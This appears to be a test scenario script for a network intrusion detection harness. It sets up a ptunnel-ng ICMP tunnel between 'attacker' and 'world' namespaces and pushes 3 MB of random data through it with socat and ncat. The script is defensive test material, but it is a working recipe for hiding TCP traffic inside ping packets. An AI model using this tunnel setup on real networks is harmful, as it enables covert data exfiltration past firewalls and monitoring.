# shellcheck shell=bash
# about: a file inside of echo requests (ptunnel-ng)
# type: attack
# kind: icmp_tunnel
# target: attacker world
# source: attacker
# tools: ptunnel-ng ncat socat
# within_ms: 10000
# first: icmp
# packets: 500
play() {
	in_space world ptunnel-ng -r127.0.0.1 -R9000 &
	started
	in_space world socat -u TCP-LISTEN:9000,bind=127.0.0.1,fork OPEN:/dev/null &
	started
	in_space attacker ptunnel-ng -p"$(address world)" -l9000 -r127.0.0.1 -R9000 &
	started
	sleep 1
	{ head -c 3000000 /dev/urandom && sleep 10; } | on attacker timeout 15 ncat --send-only 127.0.0.1 9000
}
